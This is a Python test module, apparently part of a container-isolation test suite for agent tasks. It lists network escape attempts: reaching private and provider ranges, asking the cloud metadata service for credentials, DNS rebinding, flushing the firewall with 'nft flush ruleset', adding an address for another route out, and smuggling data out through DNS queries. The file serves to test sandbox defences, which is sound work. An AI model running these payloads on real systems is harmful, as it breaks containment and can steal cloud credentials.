@@ -1,0 +1,115 @@
+"""The network of a task with internet access: the public internet or named hosts, and nothing inside.
+
+These run in a world of their own (world.py), where everything answers. A payload begins when it has reached what it
+may reach: what reaches nothing has shown nothing.
+"""
+
+from collections.abc import Awaitable, Callable, Sequence
+from functools import partial
+
+from agentcontainer.prove.attempt import Attempt, Group, Place
+from agentcontainer.prove.bait import given, tell_all
+from agentcontainer.prove.payload import perl
+from agentcontainer.prove.places import bare, namespaced, online
+from agentcontainer.prove.scene import Scene
+from agentcontainer.prove.world import NEIGHBOUR, OTHER, OWN, PUBLIC
+
+NAMED = "public.test"
+_BEGIN = "length tcp(@ARGV[1, 2], '') or die 'the internet is not reached'; begin;"
+_CONNECT = perl(_BEGIN + "print tcp(@ARGV[0, 2], '');", begins=False)
+_CONNECT_AGAIN = perl(
+    _BEGIN + "inet_aton($ARGV[0]); my $again = inet_ntoa(inet_aton($ARGV[0]) or exit);"
+    f"$again eq '{PUBLIC}' or print tcp($again, $ARGV[2], '');",
+    begins=False,
+)
+_DATAGRAM = """
+socket(my $s, AF_INET, SOCK_DGRAM, 0) or exit; connect($s, sockaddr_in(53, inet_aton($ARGV[0]))) or exit;
+syswrite($s, "\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5nonce\\4test\\0\\0\\x10\\0\\1");
+my $ready = ""; vec($ready, fileno $s, 1) = 1; select($ready, undef, undef, 3) or exit;
+my $got; sysread($s, $got, 512) and print $got =~ /nonce.*nonce/s ? $ARGV[3] : "";
+"""
+
+
+def _at(target: str, known: str) -> Callable[[Scene], Awaitable[Sequence[str]]]:
+    """A server at every address of the world. The payload is told whom to reach, whom it may reach, and the port."""
+
+    async def bait(scene: Scene) -> Sequence[str]:
+        return [target, known, str(await tell_all(scene, "0.0.0.0"))]  # noqa: S104 - of its world only
+
+    return bait
+
+
+def _reach(name: str, tries: str, target: str, attack: Place | None = None, known: str = PUBLIC) -> Attempt:
+    return Attempt(name, tries, _CONNECT, _at(target, known), attack or online(), bare)
+
+
+async def _datagram(scene: Scene) -> Sequence[str]:
+    return [*await _at(PUBLIC, NAMED)(scene), scene.nonce]
+
+
+_listed = partial(_reach, attack=online(NAMED), known=NAMED)
+
+ONLINE = Group(
+    "network",
+    (
+        _reach("online-host", "Connects to the host at an address of it that is public.", OWN),
+        _reach("online-neighbour", "Connects to a machine of the host's network (10/8).", NEIGHBOUR),
+        _reach("online-private-12", "Connects to a machine of the host's network (172.16/12).", "172.16.0.2"),
+        _reach(
+            "online-private-16", "Connects to a machine of the host's network (192.168/16).", "192.168.7.2"
+        ),
+        _reach("online-shared", "Connects to a machine of the provider's network (100.64/10).", "100.64.0.2"),
+        _reach("online-metadata", "Asks the cloud for this machine's credentials.", "169.254.169.254"),
+        _reach("online-metadata-azure", "Asks Azure for them, at its public address.", "168.63.129.16"),
+        _reach("online-test-range", "Connects to a range that no public host has.", "198.51.100.2"),
+        _reach("online-name", "Connects to a name that leads to a private address.", "private.test"),
+        Attempt(
+            "online-rebinding",
+            "Connects to a name that leads to a private address the second time.",
+            _CONNECT_AGAIN,
+            _at("rebinding.test", PUBLIC),
+            online(),
+            bare,
+        ),
+        Attempt(
+            "online-rules",
+            "Takes down the firewall.",
+            perl("system('nft flush ruleset && nft add table inet own') == 0 and print $ARGV[0];"),
+            given,
+            online(),
+            namespaced("net"),
+        ),
+        Attempt(
+            "online-route",
+            "Gives itself another address, for another way out.",
+            perl(
+                "socket(my $s, AF_INET, SOCK_DGRAM, 0) or exit;"
+                "my $ask = pack 'a16 S n a4 x8', 'lo', AF_INET, 0, inet_aton('10.99.99.99');"
+                "ioctl($s, 0x8916, $ask) and print $ARGV[0];"
+            ),
+            given,
+            online(),
+            namespaced("net"),
+        ),
+    ),
+)
+LISTED = Group(
+    "network",
+    (
+        _listed("listed-other", "Connects to a host that is not on the list.", "other.test"),
+        _listed("listed-address", "Connects to one by its address.", OTHER),
+        _listed("listed-neighbour", "Connects to the host's network, with a list.", NEIGHBOUR),
+        _listed("listed-metadata", "Asks for the cloud's credentials, with a list.", "169.254.169.254"),
+        Attempt(
+            "listed-question",
+            "Carries data out in the names it asks a nameserver for.",
+            perl(
+                "length tcp(@ARGV[1, 2], '') or die 'the internet is not reached'; begin;" + _DATAGRAM,
+                begins=False,
+            ),
+            _datagram,
+            online(NAMED),
+            bare,
+        ),
+    ),
+)
